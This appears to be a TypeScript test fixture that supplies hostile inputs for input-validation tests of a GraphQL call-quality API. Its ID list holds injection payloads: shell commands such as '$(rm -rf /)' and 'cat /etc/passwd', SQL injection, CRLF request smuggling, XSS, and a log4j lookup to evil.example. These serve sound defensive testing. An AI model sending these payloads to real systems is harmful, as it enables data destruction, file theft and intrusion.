/**
 * The shared kit of the hostile request cases (hostile-requests.ts assembles them): the sinks and valid values
 * every group of cases starts from, the documents and hostile values they share, and the helpers that vary
 * one argument at a time.
 */
import type { OperationLimitsConfig } from '../../src/config/config.js';

export type HeaderMap = Readonly<Record<string, string | readonly string[]>>;

export const JSON_TYPE = { 'content-type': 'application/json' };
export const CSRF = { 'x-graphql-yoga-csrf': '1' };
export const ACCEPTS = ['application/graphql-response+json', 'application/json', '*/*', undefined] as const;
export const SELECTION = 'userId streams { direction metrics { name } }';
export const CALL_QUALITY = `query Hostile($appId: ID!, $roomId: ID!, $userIds: [ID!]!, $from: DateTime!, $to: DateTime!) {
  callQuality(appId: $appId, roomId: $roomId, userIds: $userIds, from: $from, to: $to) { ${SELECTION} } }`;
export const ROOM_USER = `query Hostile($appId: ID!, $roomId: ID!, $userId: ID!, $from: DateTime!, $to: DateTime!) {
  room(appId: $appId, roomId: $roomId) { user(userId: $userId, from: $from, to: $to) { ${SELECTION} } } }`;

/** Ids the upstream could never hold: controls, unicode tricks, injections of every kind, sizes. */
export const HOSTILE_IDS: ReadonlyArray<readonly [string, string]> = [
  ['empty', ''],
  ['space', ' '],
  ['inner space', 'alice bob'],
  ['NUL', 'alice\u0000'],
  ['only NUL', '\u0000'],
  ['bell and escape', 'a\u0007\u001b[31mred'],
  ['newline', 'alice\nbob'],
  ['CRLF header injection', 'alice\r\nSet-Cookie: session=stolen'],
  ['CRLF request smuggling', 'a\r\n\r\nGET /admin HTTP/1.1\r\nHost: x'],
  ['DEL', 'alice\u007f'],
  ['RTL override', '\u202Eecila'],
  ['zero-width space', 'ali\u200Bce'],
  ['BOM', '\uFEFFalice'],
  ['fullwidth', 'ａｌｉｃｅ'],
  ['accented', 'alicé'],
  ['emoji', 'alice😀'],
  ['lone surrogate', 'alice\ud800'],
  ['SQL quote', "' OR '1'='1"],
  ['SQL drop', 'alice; DROP TABLE calls; --'],
  ['SQL union', '1 UNION SELECT password FROM users'],
  ['NoSQL operator', '{"$gt": ""}'],
  ['NoSQL where', "'; return true; var x='"],
  ['shell substitution', '$(rm -rf /)'],
  ['shell backticks', '`id`'],
  ['shell pipe', 'alice | cat /etc/passwd'],
  ['path traversal', '../../etc/passwd'],
  ['windows traversal', '..\\..\\windows\\win.ini'],
  ['encoded traversal', '%2e%2e%2f%2e%2e%2fetc'],
  ['comma: a second upstream id', 'alice,bob'],
  ['query parameter injection', 'alice&RoomId=other&Action=Delete'],
  ['fragment', 'alice#frag'],
  ['HTML', '<script>alert(1)</script>'],
  // biome-ignore lint/suspicious/noTemplateCurlyInString: the literal text is the attack.
  ['log4j', '${jndi:ldap://evil.example/a}'],
  ['format string', '%s%s%s%n'],
  ['wildcard', '*'],
  ['slash', 'app/1'],
  ['129 characters', 'a'.repeat(129)],
  ['10 KB', 'x'.repeat(10 * 1024)],
];

/** DateTimes that must be refused: wrong shape, impossible instants, or not a string at all. */
export const BAD_DATE_TIMES: ReadonlyArray<readonly [string, unknown]> = [
  ['no offset', '2026-11-25T10:00:00'],
  ['Feb 30', '2026-02-30T10:00:00Z'],
  ['Feb 29 of a common year', '2027-02-29T10:00:00Z'],
  ['month 13', '2026-13-01T00:00:00Z'],
  ['day 0', '2026-11-00T00:00:00Z'],
  ['hour 24', '2026-11-25T24:00:00Z'],
  ['minute 60', '2026-11-25T10:60:00Z'],
  ['leap second', '2026-06-30T23:59:60Z'],
  ['offset +24:00', '2026-11-25T10:00:00+24:00'],
  ['offset +99:99', '2026-11-25T10:00:00+99:99'],
  ['year 99999', '99999-01-01T00:00:00Z'],
  ['expanded year', '+099999-01-01T00:00:00Z'],
  ['negative year', '-000001-01-01T00:00:00Z'],
  ['space separator', '2026-11-25 10:00:00Z'],
  ['date only', '2026-11-25'],
  ['time only', '10:00:00Z'],
  ['double zone', '2026-11-25T10:00:00ZZ'],
  ['fullwidth digits', '２０２６-11-25T10:00:00Z'],
  ['NUL inside', '2026-11-25T10:00:00\u0000Z'],
  ['trailing newline', '2026-11-25T10:00:00Z\n'],
  ['now', 'now'],
  ['yesterday', 'yesterday'],
  ['empty', ''],
  ['NaN', 'NaN'],
  ['Infinity', 'Infinity'],
  ['unix ms as a string', '1764064800000'],
  ['Date.toString', 'Tue Nov 25 2026 10:00:00 GMT+0000'],
  ['SQL', "2026-11-25T10:00:00Z' OR 1=1 --"],
  ['5000 digits', '9'.repeat(5000)],
  ['100 KB', `2026-11-25T10:00:00Z${' '.repeat(100_000)}`],
  ['unix ms number', 1_764_064_800_000],
  ['negative number', -1],
  ['huge number', 1e308],
  ['boolean', true],
  ['object', { $date: '2026-11-25T10:00:00Z' }],
  ['array', ['2026-11-25T10:00:00Z']],
  ['null', null],
];

/** The valid room, as literal arguments; documents are built from it so each case shows only what it breaks. */
export const ROOM = 'appId: "app1", roomId: "room1"';
export const HOUR_MS = 3_600_000;
export const DAY_MS = 24 * HOUR_MS;

/**
 * What every group of cases needs: the sinks that record requests, and the valid values cases start from.
 * `Category` is what a group may add to (each group adds to its own); it is a parameter so that this file
 * needs nothing from hostile-requests.ts, which imports it.
 */
export interface Kit<Category extends string> {
  readonly limits: OperationLimitsConfig;
  readonly nowMs: number;
  readonly valid: { appId: string; roomId: string; userIds: string[]; from: string; to: string };
  /** `from: "…", to: "…"` of the valid range, for literal arguments. */
  readonly span: string;
  readonly random: () => number;
  add(
    category: Category,
    label: string,
    method: string,
    path: string,
    headers: HeaderMap,
    body?: string | Buffer,
  ): void;
  /** A JSON POST of `payload` (an object is serialised; a string or Buffer is sent as is). */
  post(category: Category, label: string, payload: unknown): void;
  query(category: Category, label: string, document: string, variables?: unknown): void;
  get(category: Category, label: string, search: string, headers?: HeaderMap): void;
}

export function pick<T>(random: () => number, items: readonly T[]): T {
  return items[Math.floor(random() * items.length)] as T;
}

export function times(count: number, make: (index: number) => string): string {
  return Array.from({ length: count }, (_, index) => make(index)).join(' ');
}

/**
 * callQuality (room.user for `userId`; either one, at random, for the range) with `argument` replaced by
 * `value`, passed as a variable or written as a literal; every other argument is valid.
 */
export function replaced<Category extends string>(
  kit: Kit<Category>,
  category: Category,
  label: string,
  argument: string,
  value: unknown,
  literal: boolean,
) {
  const userField = argument === 'userId' || (argument !== 'userIds' && kit.random() < 0.5);
  const { userIds: _users, ...single } = kit.valid;
  const values: Record<string, unknown> = userField ? { ...single, userId: 'alice' } : { ...kit.valid };
  values[argument] = value;
  if (!literal) {
    kit.query(category, `${label} (${argument}, variable)`, userField ? ROOM_USER : CALL_QUALITY, values);
    return;
  }
  const args = (...names: string[]) =>
    names.map((name) => `${name}: ${JSON.stringify(values[name])}`).join(', ');
  const document = userField
    ? `{ room(${args('appId', 'roomId')}) { user(${args('userId', 'from', 'to')}) { ${SELECTION} } } }`
    : `{ callQuality(${args('appId', 'roomId', 'userIds', 'from', 'to')}) { ${SELECTION} } }`;
  kit.query(category, `${label} (${argument}, literal)`, document);
}
